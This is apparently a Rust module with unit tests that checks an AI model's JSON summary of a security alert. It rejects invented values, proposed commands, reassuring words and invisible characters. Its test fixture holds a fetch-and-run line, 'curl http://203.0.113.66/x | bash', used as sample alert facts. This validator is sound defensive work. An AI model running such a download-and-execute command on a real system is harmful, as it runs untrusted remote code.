//! What is accepted of an answer.

use super::prompt::{LONGEST_NARRATIVE, LONGEST_QUESTION, MOST_QUESTIONS};
use serde::Deserialize;

/// An answer that passed every check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answer {
    /// The text.
    pub narrative: String,
    /// Questions, at most five.
    pub questions: Vec<String>,
    /// True where the model thinks that the facts look worse than the verdict. It cannot think the opposite.
    pub raise_attention: bool,
}

/// Why an answer was dropped.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Rejected {
    /// Not the JSON object that was asked for.
    #[error("not the JSON object that was asked for")]
    Schema,
    /// Empty, or longer than asked for.
    #[error("empty, or longer than asked for")]
    Length,
    /// It names something that is not in the facts.
    #[error("names {0:?}, which is not in the facts")]
    Invented(String),
    /// It holds characters that act instead of being read.
    #[error("holds characters that cannot be seen")]
    Unreadable,
    /// It proposes commands or configuration.
    #[error("proposes commands or configuration")]
    Command,
    /// It calls the alert harmless.
    #[error("reassures")]
    Reassures,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Raw {
    narrative: String,
    questions: Vec<String>,
    raise_attention: bool,
}

/// Checks an answer against the facts that the model was shown.
///
/// # Errors
/// [`Rejected`], for the first thing that is wrong with it.
pub fn check(text: &str, facts: &str) -> Result<Answer, Rejected> {
    let raw: Raw = serde_json::from_str(text.trim()).map_err(|_| Rejected::Schema)?;
    let narrative = raw.narrative.trim().to_owned();
    let questions: Vec<String> = raw.questions.iter().map(|question| question.trim().to_owned()).collect();
    let long = |text: &String, most| text.is_empty() || text.chars().count() > most;
    if long(&narrative, LONGEST_NARRATIVE)
        || questions.len() > MOST_QUESTIONS
        || questions.iter().any(|question| long(question, LONGEST_QUESTION))
    {
        return Err(Rejected::Length);
    }
    for part in questions.iter().chain([&narrative]) {
        check_part(part, facts)?;
    }
    Ok(Answer { narrative, questions, raise_attention: raw.raise_attention })
}

/// Checks words that were kept from an earlier group against another group's facts: what is only true of the earlier
/// one (its pod, its address) may not be said of this one.
pub fn still_holds<'a>(parts: impl IntoIterator<Item = &'a str>, facts: &str) -> bool {
    parts.into_iter().all(|part| check_part(part, facts).is_ok())
}

fn check_part(part: &str, facts: &str) -> Result<(), Rejected> {
    if part.chars().any(|c| (c.is_control() && c != '\n') || is_invisible(c)) {
        return Err(Rejected::Unreadable);
    }
    let lower = part.to_lowercase();
    if CONFIGURATION.iter().any(|words| lower.contains(words))
        || part.lines().any(|line| line.trim_start().starts_with(['$', '#']))
    {
        return Err(Rejected::Command);
    }
    let plain: String = lower.chars().map(|c| if c.is_alphanumeric() { c } else { ' ' }).collect();
    let plain = format!(" {} ", plain.split_whitespace().collect::<Vec<_>>().join(" "));
    if REASSURANCE.iter().any(|words| plain.contains(&format!(" {words} "))) {
        return Err(Rejected::Reassures);
    }
    let invented = |value: &str| Rejected::Invented(value.chars().take(80).collect());
    for quoted in part.split('`').skip(1).step_by(2) {
        if !names(facts, quoted) {
            return Err(invented(quoted));
        }
    }
    if commands(part, facts) {
        return Err(Rejected::Command);
    }
    for raw in part.split_whitespace() {
        let word = raw.trim_matches(|c: char| !c.is_alphanumeric() && c != '/' && c != '~');
        if names(facts, word) {
            continue;
        }
        if is_option(raw) {
            return Err(Rejected::Command);
        }
        if is_value(word) {
            return Err(invented(word));
        }
    }
    Ok(())
}

/// True where the facts hold this value, not merely a longer word around it: 10.0.0.1 is not in 10.0.0.12.
fn names(facts: &str, value: &str) -> bool {
    !value.is_empty()
        && facts.match_indices(value).any(|(at, _)| {
            let joined = |a: Option<char>, b: Option<char>| {
                a.zip(b).is_some_and(|(a, b)| a.is_alphanumeric() && b.is_alphanumeric())
            };
            let (before, after) = (&facts[..at], &facts[at + value.len()..]);
            !joined(before.chars().next_back(), value.chars().next())
                && !joined(value.chars().next_back(), after.chars().next())
        })
}

/// True where a program that changes machines is named otherwise than in the facts: they may say that somebody used
/// `kubectl exec`, and that is no leave to propose `kubectl delete`.
fn commands(part: &str, facts: &str) -> bool {
    let mut words = part.split_whitespace().peekable();
    while let Some(word) = words.next() {
        let bare = word.trim_matches(|c: char| !c.is_alphanumeric());
        if ADMINISTRATION.contains(&bare) {
            let ends = word.ends_with(['.', ',', ';', '?', '!']);
            let used = match words.peek().filter(|_| !ends) {
                Some(next) => format!("{bare} {}", next.trim_end_matches(|c: char| !c.is_alphanumeric())),
                None => bare.to_owned(),
            };
            if !names(facts, &used) {
                return true;
            }
        }
    }
    false
}

/// Parts of configuration and of code blocks: an answer is plain sentences.
const CONFIGURATION: &[&str] = &["```", "- rule:", "- macro:", "- list:", "condition:", "exceptions:", "output_fields"];

/// Programs with which one changes a machine; named only where they are in the facts.
const ADMINISTRATION: &[&str] =
    &["kubectl", "docker", "crictl", "helm", "sudo", "systemctl", "iptables", "chmod", "chown", "rm", "pkill"];

/// Words that would talk an engineer out of looking, or speak for another verdict; lower case, without punctuation.
const REASSURANCE: &[&str] = &[
    "benign",
    "harmless",
    "false positive",
    "false positives",
    "false alarm",
    "safe",
    "safely",
    "ignore",
    "ignored",
    "legitimate",
    "no action",
    "no further action",
    "no need",
    "no threat",
    "no risk",
    "no cause for concern",
    "not a threat",
    "not a concern",
    "nothing to worry",
    "nothing suspicious",
    "not suspicious",
    "not malicious",
    "not dangerous",
    "not an attack",
    "is expected",
    "as expected",
    "verdict expected",
    "verdict should",
    "lower the verdict",
    "routine",
];

/// True for characters that show nothing or turn the direction of what follows.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}'
        | '\u{e0000}'..='\u{e0fff}')
}

/// True for an option of a command: `-rf`, `--force`.
fn is_option(word: &str) -> bool {
    let name = word.trim_start_matches(['"', '\'', '(']);
    name.strip_prefix('-').is_some_and(|rest| rest.trim_start_matches('-').starts_with(|c: char| c.is_alphabetic()))
}

/// True where a word looks like a value from a machine rather than like language: a path, an address, a host name, a
/// number, an identifier.
fn is_value(word: &str) -> bool {
    if matches!(word, "e.g" | "i.e") {
        return false;
    }
    let digits = word.bytes().filter(u8::is_ascii_digit).count();
    let path = word.starts_with(['/', '~']) || word.contains("://") || word.matches('/').count() >= 2;
    let dotted = word.split('.').count() >= 2 && word.split('.').all(|part| !part.is_empty());
    path || dotted || digits >= 3 || word.contains(['@', '_', '=', '\\'])
}

#[cfg(test)]
mod tests {
    use super::*;

    const FACTS: &str = "proc.cmdline = \"curl http://203.0.113.66/x | bash\"\nk8s.pod.name = \"web-5f7c6d9b4-zq8rl\"";

    fn answer(narrative: &str) -> Result<Answer, Rejected> {
        let body =
            serde_json::json!({"narrative": narrative, "questions": ["Who deployed it?"], "raise_attention": true});
        check(&body.to_string(), FACTS)
    }

    #[test]
    fn words_about_the_facts_are_accepted() {
        let good = answer("The pod web-5f7c6d9b4-zq8rl fetched a script from 203.0.113.66 and ran it with bash.");
        assert!(good.is_ok_and(|answer| answer.raise_attention && answer.questions.len() == 1));
    }

    #[test]
    fn a_program_in_the_facts_is_no_leave_to_propose_its_commands() {
        let facts = "possible cause = \"Somebody ran kubectl exec.\"";
        assert!(still_holds(["Somebody ran kubectl exec.", "It came through kubectl."], facts));
        assert!(!still_holds(["Run kubectl delete pod web."], facts));
        assert!(!still_holds(["Use sudo."], facts));
    }

    #[test]
    fn kept_words_hold_only_where_the_facts_do() {
        assert!(still_holds(["bash ran what curl fetched from 203.0.113.66."], FACTS));
        assert!(!still_holds(["It ran in web-5f7c6d9b4-aaaaa."], FACTS));
    }

    #[test]
    fn invented_values_are_rejected() {
        for text in [
            "It wrote /etc/cron.d/x.",
            "It called 198.51.100.7.",
            "It called 203.0.113.6.",
            "See pod web-0a1b2c3d4-aaaaa.",
            "It ran `xmrig`.",
            "It listens on port 4444.",
            "It is evil.example.",
            "It reads ~root.",
            "It set LD_PRELOAD.",
        ] {
            assert!(matches!(answer(text), Err(Rejected::Invented(_))), "{text}");
        }
    }

    #[test]
    fn commands_reassurance_and_broken_answers_are_rejected() {
        for text in ["```sh\nls\n```", "Use kubectl now.", "Delete it with -rf.", "# rm", "- rule: x"] {
            assert_eq!(answer(text), Err(Rejected::Command), "{text}");
        }
        for text in ["A FALSE-POSITIVE.", "It is safe.", "Verdict: expected.", "It can be\nignored."] {
            assert_eq!(answer(text), Err(Rejected::Reassures), "{text}");
        }
        for text in ["b\u{200b}enign", "\u{1b}[2J", "\u{202e}x"] {
            assert_eq!(answer(text), Err(Rejected::Unreadable), "{text:?}");
        }
        assert_eq!(answer(""), Err(Rejected::Length));
        assert_eq!(answer(&"word ".repeat(1000)), Err(Rejected::Length));
        assert_eq!(check("{\"narrative\": \"cut o", FACTS), Err(Rejected::Schema));
        assert_eq!(check("[]", FACTS), Err(Rejected::Schema));
        let lowers = r#"{"narrative":"x","questions":[],"raise_attention":false,"verdict":"expected"}"#;
        assert_eq!(check(lowers, FACTS), Err(Rejected::Schema), "nothing else is read");
    }
}
